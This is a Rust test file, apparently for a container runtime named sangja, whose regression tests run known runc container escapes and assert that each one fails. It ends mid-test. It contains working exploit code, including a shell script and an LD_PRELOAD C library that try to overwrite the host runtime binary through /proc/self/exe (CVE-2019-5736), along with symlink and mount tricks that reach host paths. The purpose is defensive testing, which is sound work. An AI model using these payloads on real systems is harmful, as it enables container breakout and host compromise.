//! Escape regressions: each test attempts a known runc container escape against the runtime and asserts
//! that it fails (issue 5, point 4). Most important first.
//!
//! - CVE-2019-5736: overwriting the host runtime binary through `/proc/<pid>/exe`;
//! - CVE-2016-9962: host fds leaking into `exec`'d processes;
//! - CVE-2024-21626: a leaked host directory fd reachable as `process.cwd = /proc/self/fd/N`;
//! - CVE-2021-30465 / CVE-2019-16884 / CVE-2019-19921: mount destinations and `/proc` replaced by symlinks
//!   or bind mounts from the image;
//! - CVE-2023-27561: `maskedPaths` through symlinks;
//! - CVE-2025-31133 (the image's `/dev/null` for masks), CVE-2025-52881 (`/proc` writes redirected);
//! - `/proc/sys`, `/proc/sysrq-trigger` and `/sys` read-only with the default spec;
//! - races a second container runs during `create` ([`races`]: CVE-2024-21626's cwd swap,
//!   CVE-2021-30465's mount destination swap), and what the process holds ([`identity`]:
//!   CVE-2022-29162's inheritable capabilities, CVE-2025-52565's `/dev/console`).
#![allow(clippy::unwrap_used)]

mod identity;
mod races;

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::json;
use spec_tests::{assert_nothing_left, harness, host, secs, Harness};

/// A file whose name only exists on the host, next to the bundle: seeing it from the container means the
/// container reached a host directory.
const HOST_MARKER: &str = "host-marker-outside-the-container";

fn sha256(path: &Path) -> String {
    let out = Command::new("sha256sum")
        .arg(path)
        .stdin(Stdio::null())
        .output()
        .expect("run sha256sum");
    assert!(out.status.success(), "sha256sum {}", path.display());
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_string()
}

fn write_exec(path: &Path, text: &str) {
    fs::write(path, text).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

/// Mount points of the host (this test's mount namespace) under `dir`.
fn host_mounts_under(dir: &Path) -> Vec<String> {
    host::own_mounts()
        .into_iter()
        .map(|m| m.mount_point)
        .filter(|p| Path::new(p).starts_with(dir))
        .collect()
}

/// Names in a host directory, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

// ---------------------------------------------------------------------------------------------------------
// 1. CVE-2019-5736: /proc/<pid>/exe of a runtime process

/// The attacker, the container's init: it scans every pid it can see; for any process whose executable is
/// not busybox (a runtime process: an `exec` child before its execve, or the runtime binary re-executed
/// through a `#!/proc/self/exe` script), it stops it, grabs `/proc/<pid>/exe` read-only, kills it and
/// then tries to reopen the grabbed fd for writing (`/proc/self/fd/3`) and to write `/proc/<pid>/exe`
/// directly — exactly the runc exploit. Every attempt is logged to /tmp/log.
const ATTACKER: &str = r#"#!/bin/sh
echo ready > /tmp/ready
n=0
while [ ! -e /tmp/stop ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = 1 ] && continue
    [ "$p" = "$$" ] && continue
    read comm < $d/comm 2>/dev/null || continue
    case "$comm" in sh|sleep|cat|true|ls|busybox|attack) continue;; esac
    kill -STOP $p 2>/dev/null
    n=$((n+1))
    echo "saw $p comm=$comm" >> /tmp/log
    if dd if=/payload of=$d/exe conv=notrunc bs=7 count=1 2>>/tmp/log; then
      echo "WROTE-DIRECT $p" >> /tmp/log
    fi
    (
      exec 3< $d/exe || { echo "open-ro-failed $p" >> /tmp/log; exit 0; }
      echo "OPENED-RO $p $(readlink /proc/self/fd/3)" >> /tmp/log
      kill -KILL $p 2>/dev/null
      i=0
      while [ $i -lt 50 ]; do
        if dd if=/payload of=/proc/self/fd/3 conv=notrunc bs=7 count=1 2>>/tmp/log; then
          echo "WROTE-REOPEN $p" >> /tmp/log
          exit 0
        fi
        i=$((i+1)); usleep 20000
      done
    ) 2>>/tmp/log
    kill -CONT $p 2>/dev/null
  done
done
echo "done seen=$n" >> /tmp/log
"#;

/// Restores the attacked copy of the runtime binary on drop if its content changed.
struct RestoreBinary {
    bin: std::path::PathBuf,
    built: std::path::PathBuf,
}

impl Drop for RestoreBinary {
    fn drop(&mut self) {
        // No assertion here: this may run while a failed assertion unwinds.
        if fs::read(&self.bin).ok() != fs::read(&self.built).ok() {
            let _ = fs::remove_file(&self.bin);
            let _ = fs::copy(&self.built, &self.bin);
            let _ = fs::set_permissions(&self.bin, fs::Permissions::from_mode(0o755));
        }
    }
}

/// A private copy of the runtime binary for an attack (so that a successful one cannot break the
/// build), a harness running that copy, and the guard restoring it. Fields drop in order: the
/// binary is restored before the harness cleans up with it, and the temp dir goes last.
struct Target {
    _restore: RestoreBinary,
    h: Harness,
    bin: std::path::PathBuf,
    /// sha256 of the untouched copy.
    before: String,
    _probe: Harness,
}

fn attack_target(name: &str) -> Target {
    let built = spec_tests::sangja_bin(env!("CARGO_BIN_EXE_sangja"));
    let probe = Harness::new(&built, &format!("{name}_bin"));
    let bin = probe.tempdir("bin").join("sangja");
    fs::copy(&built, &bin).unwrap();
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).unwrap();
    Target {
        _restore: RestoreBinary {
            bin: bin.clone(),
            built,
        },
        h: Harness::new(&bin, name),
        before: sha256(&bin),
        bin,
        _probe: probe,
    }
}

/// Puts the image's `#!/proc/self/exe` script at `/evil`, a payload, and the loader `bin` needs (as
/// most real images have it), so that the kernel really runs the runtime binary in the container.
fn plant_self_exe_script(root: &Path, bin: &Path) {
    write_exec(&root.join("evil"), "#!/proc/self/exe\n");
    fs::write(root.join("payload"), "PWNED!!").unwrap();
    install_loader_for(bin, root);
}

/// Copies the dynamic loader and the shared libraries `bin` needs into `root` (as an ordinary image
/// would have them), so that the runtime binary, once the kernel is tricked into running it inside
/// the container, really starts there. A static binary needs nothing.
fn install_loader_for(bin: &Path, root: &Path) {
    let out = Command::new("ldd").arg(bin).output().expect("run ldd");
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        // "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x…)" or "/lib64/ld-linux-x86-64.so.2 (0x…)"
        let path = line
            .split("=>")
            .last()
            .and_then(|rhs| rhs.split_whitespace().next())
            .filter(|p| p.starts_with('/'));
        if let Some(lib) = path {
            let dst = root.join(lib.trim_start_matches('/'));
            fs::create_dir_all(dst.parent().unwrap()).unwrap();
            fs::copy(lib, &dst).unwrap_or_else(|e| panic!("copy {lib}: {e}"));
        }
    }
}

#[test]
fn cve_2019_5736_runtime_binary_not_writable_from_container() {
    let t = attack_target("cve_2019_5736");
    let (h, bin) = (&t.h, &t.bin);
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    write_exec(&root.join("attack"), ATTACKER);
    plant_self_exe_script(&root, bin);
    b.set("/root/readonly", json!(false));
    // No CAP_SYS_PTRACE (default spec): non-dumpable runtime processes' /proc/<pid>/exe stay closed.
    b.args(&["/attack"]);
    let c = h.create_and_start(&b);
    assert!(
        host::wait_until(secs(10), || root.join("tmp/ready").exists()),
        "the attacker did not start"
    );
    let log_path = root.join("tmp/log");
    // Four clients race execs against the attacker: exec children run runtime code in the container
    // until their execve, and `/evil` (a `#!/proc/self/exe` script) makes the exec child's execve
    // run the runtime binary itself inside the container, where the attacker grabs it.
    let evil_ran: usize = std::thread::scope(|s| {
        let workers: Vec<_> = (0..4)
            .map(|_| {
                s.spawn(|| {
                    let mut ran = 0;
                    // Until the attacker has caught runtime processes a few times (at most 100 rounds).
                    for _ in 0..100 {
                        let log = fs::read_to_string(&log_path).unwrap_or_default();
                        if log.matches("OPENED-RO").count() >= 5 {
                            break;
                        }
                        let _ = h.cmd(&["exec", &c.id, "true"]);
                        let evil = h.cmd(&["exec", &c.id, "/evil", "--version"]);
                        if evil.stdout.contains("sangja version") {
                            ran += 1;
                        }
                    }
                    ran
                })
            })
            .collect();
        workers.into_iter().map(|w| w.join().unwrap()).sum()
    });
    fs::write(root.join("tmp/stop"), "").unwrap();
    assert!(
        host::wait_until(secs(20), || fs::read_to_string(&log_path)
            .unwrap_or_default()
            .contains("done seen=")),
        "the attacker did not finish: {}",
        fs::read_to_string(&log_path).unwrap_or_default()
    );
    h.cmd(&["delete", "--force", &c.id]).ok();
    let log = fs::read_to_string(&log_path).unwrap();
    eprintln!("attacker log (the runtime binary ran in the container {evil_ran} times):\n{log}");
    assert_eq!(
        sha256(bin),
        t.before,
        "the host runtime binary was modified from the container:\n{log}"
    );
    assert!(
        !log.contains("WROTE-"),
        "the container wrote the runtime binary:\n{log}"
    );
    // The exec children were really attacked (otherwise this test proves nothing). Whatever the
    // attacker held (a view of the runtime binary when it caught `/evil` early) refused its writes;
    // the deterministic variant below always catches it.
    assert!(
        log.contains("saw "),
        "the attacker never saw a runtime process:\n{log}"
    );
}

/// The deterministic `#!/proc/self/exe` attack, as an image can mount it: the image's environment
/// sets `LD_PRELOAD` (images carry `Env`) and its entry point is a `#!/proc/self/exe` script, so the
/// kernel runs the *runtime's* executable in the container and the image's library runs first, in
/// the runtime binary's process, before any runtime code: it grabs `/proc/self/exe`, tries to
/// write it, and hands the handle to a shell that retries after the runtime is gone (runc's
/// CVE-2019-5736 exploit, without the race). Results are appended to `$ATTACK_OUT`.
const PRELOAD_ATTACKER: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void report(const char *out, const char *what, const char *detail) {
    char line[700];
    int n = snprintf(line, sizeof line, "%s %s\n", what, detail);
    int fd = open(out, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) { write(fd, line, n); close(fd); }
}

__attribute__((constructor)) static void attack(void) {
    const char *out = getenv("ATTACK_OUT");
    if (!out) return;
    unsetenv("LD_PRELOAD");
    char link[512];
    ssize_t n = readlink("/proc/self/exe", link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) { report(out, "OPEN-FAILED", strerror(errno)); return; }
    report(out, "GRABBED", link);
    int w = open("/proc/self/exe", O_WRONLY);
    report(out, "WRITE-WHILE-RUNNING", w < 0 ? strerror(errno) : "opened");
    if (fork() == 0) {
        /* Keep the handle on fd 3 in a process that no longer maps the binary. */
        dup2(fd, 3);
        execl("/bin/sh", "sh", "/retry", out, (char *)0);
        _exit(127);
    }
    /* The container's real workload, so that it stays up. */
    execl("/bin/sleep", "sleep", "1000", (char *)0);
    _exit(127);
}
"#;

/// Reopens fd 3 (the grabbed executable) for writing until the runtime process is gone (writes to a
/// running executable fail with ETXTBSY), as the real exploit does.
const RETRY: &str = r#"out=$1
i=0
while [ $i -lt 150 ]; do
  if dd if=/payload of=/proc/self/fd/3 conv=notrunc bs=7 count=1 2>/tmp/err.$$; then
    echo WROTE >> $out; echo DONE >> $out; exit 0
  fi
  grep -q "busy" /tmp/err.$$ || break
  usleep 20000; i=$((i+1))
done
echo "WRITE-REFUSED $(cat /tmp/err.$$)" >> $out
echo DONE >> $out
"#;

#[test]
fn cve_2019_5736_self_exe_script_gets_a_read_only_runtime() {
    let t = attack_target("cve_2019_5736_preload");
    let (h, bin) = (&t.h, &t.bin);
    let ldd = Command::new("ldd").arg(bin).output().expect("run ldd");
    assert!(
        String::from_utf8_lossy(&ldd.stdout).contains("ld-linux"),
        "this attack needs a dynamically linked runtime binary (the default build); a static one \
         is covered by the racing test above"
    );
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    let src = root.join("attack.c");
    fs::write(&src, PRELOAD_ATTACKER).unwrap();
    let cc = Command::new("cc")
        .args(["-shared", "-fPIC", "-O1", "-o"])
        .arg(root.join("attack.so"))
        .arg(&src)
        .output()
        .expect("run cc (apt-get install gcc libc6-dev)");
    assert!(
        cc.status.success(),
        "cc: {}",
        String::from_utf8_lossy(&cc.stderr)
    );
    fs::write(root.join("retry"), RETRY).unwrap();
    plant_self_exe_script(&root, bin);
    b.set("/root/readonly", json!(false));
    // The init's own execve is attacked: the image's entry point and environment.
    b.args(&["/evil"]);
    b.push("/process/env", json!("LD_PRELOAD=/attack.so"));
    b.push("/process/env", json!("ATTACK_OUT=/tmp/init.out"));
    let c = h.create_and_start(&b);
    // And an `exec` into it, detached so the runtime process is gone while the attacker retries.
    h.cmd(&[
        "exec",
        "-d",
        "-e",
        "LD_PRELOAD=/attack.so",
        "-e",
        "ATTACK_OUT=/tmp/exec.out",
        &c.id,
        "/evil",
    ])
    .ok();
    for how in ["init", "exec"] {
        let out = root.join(format!("tmp/{how}.out"));
        assert!(
            host::wait_until(secs(15), || fs::read_to_string(&out)
                .unwrap_or_default()
                .contains("DONE")),
            "{how}: the attacker did not finish: {}",
            fs::read_to_string(&out).unwrap_or_default()
        );
        let text = fs::read_to_string(&out).unwrap();
        eprintln!("{how}:\n{text}");
        // The kernel did run the runtime binary in the container and the attacker held it...
        assert!(text.contains("GRABBED "), "{how}: {text}");
        // ...but only a read-only view of it, never the host's file,
        assert!(
            !text.contains(&*bin.to_string_lossy()),
            "{how}: the container held the host's runtime binary: {text}"
        );
        // ...which refuses writes, while the runtime runs and after it has gone.
        assert!(!text.contains("WROTE"), "{how}: {text}");
        assert!(
            text.contains("WRITE-WHILE-RUNNING Read-only file system")
                || text.contains("WRITE-WHILE-RUNNING Text file busy"),
            "{how}: {text}"
        );
        assert!(
            text.contains("WRITE-REFUSED") && text.contains("Read-only file system")
                || text.contains("Operation not permitted"),
            "{how}: {text}"
        );
    }
    h.cmd(&["delete", "--force", &c.id]).ok();
    assert_eq!(sha256(bin), t.before, "the host runtime binary changed");
}

// ---------------------------------------------------------------------------------------------------------
// 2. CVE-2016-9962: fds of the runtime reaching the container

/// The fds of a host pid other than 0, 1 and 2, with their targets.
fn extra_fds(pid: i64) -> Vec<String> {
    let dir = format!("/proc/{pid}/fd");
    let mut v: Vec<String> = fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{dir}: {e}"))
        .map(|e| e.unwrap())
        .filter(|e| !["0", "1", "2"].contains(&e.file_name().to_str().unwrap()))
        .map(|e| {
            let target = fs::read_link(e.path()).unwrap_or_default();
            format!(
                "{} -> {}",
                e.file_name().to_string_lossy(),
                target.display()
            )
        })
        .collect();
    v.sort();
    v
}

#[test]
fn cve_2016_9962_no_host_fds_in_init_or_exec() {
    let h = harness!();
    let mut b = h.bundle();
    b.args(&["sleep", "1000"]);
    let c = h.create_and_start(&b);
    let init = h.pid(&c.id);
    let pid_file = h.base().join("exec.pid");
    let pf = pid_file.to_str().unwrap();
    h.cmd(&["exec", "--detach", "--pid-file", pf, &c.id, "sleep", "1000"])
        .ok();
    let exec_pid: i64 = fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    // Both processes have execve'd `sleep` (no runtime code left) and hold nothing but stdio: no channel
    // socket, sync pipe, cgroup, namespace or state-dir fd of the runtime.
    for (who, pid) in [("init", init), ("exec", exec_pid)] {
        assert!(
            host::wait_until(secs(5), || fs::read_link(format!("/proc/{pid}/exe"))
                .map(|p| p.ends_with("busybox"))
                .unwrap_or(false)),
            "{who} did not exec sleep"
        );
        assert_eq!(
            extra_fds(pid),
            Vec::<String>::new(),
            "{who} (pid {pid}) holds fds beyond stdio"
        );
    }
}

// ---------------------------------------------------------------------------------------------------------
// 3. CVE-2024-21626: a leaked host directory fd as the cwd

/// Where the process's cwd is: it climbs `..` (physically) 64 times and compares where it ends with its
/// root. Inside the container the climb stops at `/`; from a host directory (a leaked fd of the runtime:
/// cgroupfs, the state dir, a namespace file's filesystem) it goes past the container's root and ends at the
/// host's, a different inode. Prints `root=<dev:ino> top=<dev:ino>`.
const WHERE_IS_CWD: &str =
    "r=$(stat -c %d:%i /); i=0; while [ $i -lt 64 ]; do cd -P .. || exit 9; i=$((i+1)); done; \
     echo \"root=$r top=$(stat -c %d:%i .)\"";

/// A run as `process.cwd = /proc/self/fd/<fd>` (or `exec --cwd`) either is refused or has its cwd inside the
/// container.
fn assert_cwd_inside(what: &str, out: &spec_tests::Output) {
    if !out.success() {
        return;
    }
    let line = out
        .stdout
        .lines()
        .find(|l| l.starts_with("root="))
        .unwrap_or_default();
    let (root, top) = line
        .strip_prefix("root=")
        .and_then(|l| l.split_once(" top="))
        .unwrap_or_else(|| panic!("{what}: no report:\n{out}"));
    assert_eq!(
        root, top,
        "{what}: the cwd is outside the container's root:\n{out}"
    );
}

/// Every fd number the runtime could hold (3–64) as `process.cwd` and as `exec --cwd`: the process never
/// starts in a host directory. runc 1.1.12 fixed this by closing its fds and checking the cwd.
#[test]
fn cve_2024_21626_cwd_through_proc_self_fd() {
    let h = harness!();
    let mut b = h.bundle();
    let mut refused = 0;
    for fd in 3..=64 {
        b.set("/process/cwd", json!(format!("/proc/self/fd/{fd}")));
        b.args(&["sh", "-c", WHERE_IS_CWD]);
        let out = h.run(&b);
        assert_cwd_inside(&format!("process.cwd /proc/self/fd/{fd}"), &out);
        if !out.success() {
            refused += 1;
        }
    }
    // The same through exec --cwd, into a running container.
    b.set("/process/cwd", json!("/"));
    b.args(&["sleep", "1000"]);
    let c = h.create_and_start(&b);
    for fd in 3..=64 {
        let cwd = format!("/proc/self/fd/{fd}");
        let out = h.cmd(&["exec", "--cwd", &cwd, &c.id, "sh", "-c", WHERE_IS_CWD]);
        assert_cwd_inside(&format!("exec --cwd {cwd}"), &out);
    }
    // A cwd inside the container still works, and the check sees it there.
    let out = h.cmd(&["exec", "--cwd", "/etc", &c.id, "sh", "-c", WHERE_IS_CWD]);
    out.ok();
    assert_cwd_inside("exec --cwd /etc", &out);
    eprintln!("{refused} of 62 creates refused the /proc/self/fd cwd");
}

// ---------------------------------------------------------------------------------------------------------
// 4. CVE-2021-30465 and friends: mount destinations through symlinks

#[test]
fn mount_destination_symlinks_stay_in_rootfs() {
    let h = harness!();
    let host_dir = h.tempdir("hostdir");
    fs::write(host_dir.join(HOST_MARKER), "").unwrap();
    let host_before = names(&host_dir);
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    // Absolute, relative with `..` past the root, and a chain of both.
    symlink(&host_dir, root.join("abs")).unwrap();
    let ups = "../".repeat(32);
    symlink(
        format!(
            "{ups}{}",
            host_dir.to_str().unwrap().trim_start_matches('/')
        ),
        root.join("mnt/rel"),
    )
    .unwrap();
    symlink("/abs", root.join("chain")).unwrap();
    // A destination whose parent is a symlink to the host dir.
    symlink(&host_dir, root.join("parent")).unwrap();
    for dest in ["/abs", "/mnt/rel", "/chain", "/parent/sub"] {
        b.add_mount(json!({"destination": dest, "type": "tmpfs", "source": "tmpfs"}));
    }
    b.set("/root/readonly", json!(false));
    let out = h.sh(
        &mut b,
        "for d in /abs /mnt/rel /chain /parent/sub; do touch $d/pwned 2>/dev/null; ls $d; done; echo ok",
    );
    assert!(out.ends_with("ok\n"), "{out}");
    assert!(
        !out.contains(HOST_MARKER),
        "a mount destination showed the host directory:\n{out}"
    );
    assert_eq!(
        names(&host_dir),
        host_before,
        "the container wrote into the host dir"
    );
    assert!(host_mounts_under(h.base()).is_empty());
}

#[test]
fn mount_destination_symlink_to_proc_is_not_followed_out() {
    // CVE-2019-16884 style: a bind mount onto /proc/self/attr through a symlink in the image.
    let h = harness!();
    let fake = h.tempdir("fakeattr");
    fs::write(fake.join("current"), "unconfined\n").unwrap();
    let mut b = h.bundle_private();
    symlink("/proc/self/attr", b.rootfs().join("evil")).unwrap();
    b.add_mount(json!({
        "destination": "/evil", "type": "bind", "source": fake.to_str().unwrap(), "options": ["bind"]
    }));
    b.set("/root/readonly", json!(false));
    b.args(&[
        "sh",
        "-c",
        "cat /proc/self/attr/current 2>&1; stat -f -c %T /proc",
    ]);
    let out = h.run(&b);
    if out.success() {
        // Accepted: the bind must have landed inside the rootfs, not over procfs.
        assert!(
            !out.stdout.contains("unconfined"),
            "the image's symlink put a host bind mount over procfs's /proc/self/attr:\n{out}"
        );
        assert!(out.stdout.ends_with("proc\n"), "{out}");
    }
    assert!(host_mounts_under(h.base()).is_empty());
}

// ---------------------------------------------------------------------------------------------------------
// CVE-2019-16884 / CVE-2019-19921: /proc replaced from the image

/// The host's /proc/timer_list (in the default maskedPaths) is not empty, so reading 0 bytes from it in
/// the container shows the mask.
fn assert_timer_list_readable_on_host() {
    let len = fs::read("/proc/timer_list").map(|v| v.len()).unwrap_or(0);
    assert!(
        len > 0,
        "the host has no /proc/timer_list: the mask checks below would prove nothing"
    );
}

#[test]
fn proc_replaced_by_bind_mount_is_refused() {
    // A bind mount onto /proc gives the container a fake /proc: masked and read-only paths then protect
    // nothing real, and LSM labels written to /proc/self/attr go to a file. runc refuses any /proc
    // mount that is not procfs.
    let h = harness!();
    let fake = h.tempdir("fakeproc");
    fs::write(fake.join("timer_list"), "fake-timer-list\n").unwrap();
    fs::create_dir_all(fake.join("sys")).unwrap();
    let mut b = h.bundle();
    b.add_mount(json!({
        "destination": "/proc", "type": "bind", "source": fake.to_str().unwrap(), "options": ["rbind"]
    }));
    b.args(&["sh", "-c", "stat -f -c %T /proc; cat /proc/timer_list"]);
    let out = h.run(&b);
    assert!(
        !out.success() || out.stdout.starts_with("proc\n"),
        "a bind mount replaced /proc (it must be procfs):\n{out}"
    );
    assert!(!out.stdout.contains("fake-timer-list"), "{out}");
    assert!(host_mounts_under(h.base()).is_empty());
}

#[test]
fn proc_symlink_in_image_does_not_leave_rootfs() {
    let h = harness!();
    let host_dir = h.tempdir("hostproc");
    fs::write(host_dir.join(HOST_MARKER), "").unwrap();
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    fs::remove_dir(root.join("proc")).unwrap();
    symlink(&host_dir, root.join("proc")).unwrap();
    b.set("/root/readonly", json!(false));
    assert_timer_list_readable_on_host();
    b.args(&[
        "sh",
        "-c",
        "stat -f -c %T /proc; cat /proc/timer_list | wc -c",
    ]);
    let out = h.run(&b);
    // Refused, as runc does ("must be mounted on ordinary directory"), naming the mount target.
    out.assert_error("create mount point /proc: too many symbolic links encountered");
    assert_eq!(names(&host_dir), [HOST_MARKER]);
    assert!(host_mounts_under(h.base()).is_empty());
}

// ---------------------------------------------------------------------------------------------------------
// 5. CVE-2023-27561: maskedPaths through symlinks

#[test]
fn masked_path_symlinks_do_not_reach_host_or_unmask() {
    let h = harness!();
    let host_dir = h.tempdir("hostsecret");
    fs::write(host_dir.join(HOST_MARKER), "secret\n").unwrap();
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    symlink(&host_dir, root.join("mnt/masked-abs")).unwrap();
    symlink(
        "../../../../../../../../../proc/timer_list",
        root.join("mnt/masked-rel"),
    )
    .unwrap();
    b.push("/linux/maskedPaths", json!("/mnt/masked-abs"));
    b.push("/linux/maskedPaths", json!("/mnt/masked-rel"));
    b.set("/root/readonly", json!(false));
    assert_timer_list_readable_on_host();
    b.args(&[
        "sh",
        "-c",
        "cat /proc/timer_list | wc -c; cat /mnt/masked-rel | wc -c; ls /mnt/masked-abs/ 2>&1; echo ok",
    ]);
    let out = h.run(&b);
    // The symlinks resolve inside the rootfs (the absolute one to nothing there): masks still apply and
    // no host directory shows up.
    out.ok();
    assert!(
        out.stdout.starts_with("0\n0\n"),
        "/proc/timer_list unmasked:\n{out}"
    );
    assert!(!out.stdout.contains(HOST_MARKER), "{out}");
    assert_eq!(names(&host_dir), [HOST_MARKER]);
    assert_eq!(
        fs::read_to_string(host_dir.join(HOST_MARKER)).unwrap(),
        "secret\n"
    );
    assert!(host_mounts_under(h.base()).is_empty());
}

// ---------------------------------------------------------------------------------------------------------
// CVE-2019-16884 / CVE-2023-27561: something else than procfs over /proc

/// A bundle whose private rootfs has `/evil` → `proc` and `/evil2` → `/proc/self`, and a
/// directory of fake `/proc` attribute files to bind.
fn fake_proc_bundle(h: &Harness) -> (spec_tests::Bundle, std::path::PathBuf) {
    let fake = h.tempdir("fakeproc");
    fs::create_dir_all(fake.join("self/attr")).unwrap();
    fs::write(fake.join("self/attr/exec"), "").unwrap();
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    symlink("proc", root.join("evil")).unwrap();
    symlink("/proc/self", root.join("evil2")).unwrap();
    b.set("/root/readonly", json!(false));
    b.args(&["true"]);
    (b, fake)
}

/// Each bind of `fake` at one of `dests` is refused naming its `mounts[i]` and saying `want`,
/// and leaves nothing; the fake files are never written.
fn binds_over_proc_refused(
    h: &Harness,
    b: &spec_tests::Bundle,
    fake: &Path,
    dests: &[&str],
    want: &str,
) {
    for dest in dests {
        let mut b = b.clone();
        let i = b.add_mount(json!({"destination": dest, "type": "bind",
            "source": fake.to_str().unwrap(), "options": ["rbind"]}));
        let id = h.id();
        let (out, _) = h.try_create(&b, &id, &[]);
        out.assert_error(&format!("mounts[{i}]"));
        assert!(out.stderr.contains(want), "{dest}: {out}");
        assert_nothing_left(h, &id, &b);
    }
    assert_eq!(fs::read_to_string(fake.join("self/attr/exec")).unwrap(), "");
}

/// runc wrote the AppArmor/SELinux exec attribute by path after the mounts, so a volume over
/// `/proc` took the write and the container ran unconfined. sangja writes those attributes through
/// a procfs handle opened before the mounts (lsm_vm.rs runs that under AppArmor) and, as runc,
/// lets nothing but procfs be mounted at `/proc` or over its directories by name; a bind of a
/// single `/proc` file, as lxcfs does, still works.
#[test]
fn cve_2019_16884_nothing_but_procfs_at_proc() {
    let h = harness!();
    let (mut b, fake) = fake_proc_bundle(&h);
    binds_over_proc_refused(
        &h,
        &b,
        &fake,
        &["/proc", "/proc/self/attr", "proc", "/x/../proc"],
        "cannot be mounted: /proc must be procfs",
    );
    let file = h.base().join("cpuinfo");
    fs::write(&file, "fake cpuinfo\n").unwrap();
    b.add_mount(json!({"destination": "/proc/cpuinfo", "type": "bind",
        "source": file.to_str().unwrap(), "options": ["bind", "ro"]}));
    b.args(&["head", "-1", "/proc/cpuinfo"]);
    let out = h.run(&b);
    out.ok();
    assert_eq!(out.stdout.trim(), "fake cpuinfo");
}

/// The regression of CVE-2019-16884: the destination does not name `/proc`, but a symlink in the
/// image leads there (`/evil` → `proc`, `/evil2/attr` → `/proc/self/attr`). Checked on the
/// destination's fd in the init: only procfs may land on procfs.
#[test]
fn cve_2023_27561_no_mount_into_proc_through_an_image_symlink() {
    let h = harness!();
    let (b, fake) = fake_proc_bundle(&h);
    binds_over_proc_refused(
        &h,
        &b,
        &fake,
        &["/evil", "/evil2/attr"],
        "leads into /proc through a symlink in the image",
    );
}

// ---------------------------------------------------------------------------------------------------------
// --no-pivot: the host's procfs and sysfs stay below the moved root

/// With `--no-pivot` (docker and containerd on a ramdisk) the old root stays in the container's
/// mount namespace under the moved one. Were the host's procfs and sysfs still mounted there, a
/// process in a new user namespace could mount a fresh, unmasked procfs (`/proc/keys` readable:
/// the kernel allows it when a fully visible one exists) or sysfs. runc detaches them ("mount:
/// permission denied" inside); so do we. Run against runc too, where it is installed.
#[test]
fn no_pivot_leaves_no_host_procfs_or_sysfs_to_mount_again() {
    let script = "unshare -mrpf sh -c 'mount -t proc none /proc && echo proc-mounted'; \
                  unshare -mrnf sh -c 'mount -t sysfs none /sys && echo sysfs-mounted'; \
                  echo done";
    let mut runtimes = vec![harness!()];
    if spec_tests::runc_bin().exists() {
        runtimes.push(Harness::runc("no-pivot"));
    }
    for h in &runtimes {
        let mut b = h.bundle_private();
        for set in ["bounding", "effective", "permitted"] {
            b.push(
                &format!("/process/capabilities/{set}"),
                json!("CAP_SETFCAP"),
            );
        }
        b.set("/root/readonly", json!(false));
        b.args(&["sh", "-c", script]);
        let out = h.run_with(&b, &["--no-pivot"]);
        out.ok();
        let name = h.bin().display();
        assert!(out.stdout.contains("done"), "{name}: {out}");
        assert!(
            !out.stdout.contains("proc-mounted"),
            "{name}: a fresh procfs could be mounted in the container:\n{out}"
        );
        assert!(
            !out.stdout.contains("sysfs-mounted"),
            "{name}: a fresh sysfs could be mounted in the container:\n{out}"
        );
    }
}

// ---------------------------------------------------------------------------------------------------------
// CVE-2025-31133: masking with the image's `/dev/null`

/// Drop the config's mounts whose destination `drop` picks (the `/dev` tmpfs, say), so that the
/// image's own files are what the runtime finds there.
pub(crate) fn images_own_dev(b: &mut spec_tests::Bundle, drop: impl Fn(&str) -> bool) {
    let mounts: Vec<serde_json::Value> = b.config["mounts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| !drop(m["destination"].as_str().unwrap_or("")))
        .cloned()
        .collect();
    b.set("/mounts", json!(mounts));
}

/// With no `/dev` tmpfs in the config, the image's `/dev/null` is a symlink to a host-global procfs file
/// (`/proc/sys/kernel/core_pattern`). Masking binds "the null device" over `/proc/keys` and friends: it must
/// be the real one (character device 1:3), never what the image's path leads to (runc 1.2.8 checks it).
/// `readonlyPaths` is empty, so nothing else would make such a bind read-only.
#[test]
fn cve_2025_31133_masks_never_use_the_images_dev_null() {
    let h = harness!();
    let mut b = h.bundle_private();
    let root = b.rootfs().to_path_buf();
    images_own_dev(&mut b, |dest| dest.starts_with("/dev"));
    b.set("/linux/readonlyPaths", json!([]));
    b.set("/root/readonly", json!(false));
    let null = root.join("dev/null");
    let _ = fs::remove_file(&null);
    fs::create_dir_all(root.join("dev")).unwrap();
    symlink("/proc/sys/kernel/core_pattern", &null).unwrap();
    // The masked files this host's kernel has (runc spec's list; /proc/kcore needs CONFIG_PROC_KCORE).
    let files: Vec<&str> = [
        "/proc/keys",
        "/proc/timer_list",
        "/proc/kcore",
        "/proc/sched_debug",
    ]
    .into_iter()
    .filter(|f| Path::new(f).exists())
    .collect();
    assert!(
        !files.is_empty(),
        "none of the masked files exists on this host"
    );
    let script = format!(
        "for f in {}; do stat -c \"$f %F %t:%T\" $f; done",
        files.join(" ")
    );
    b.args(&["sh", "-c", &script]);
    let out = h.run(&b);
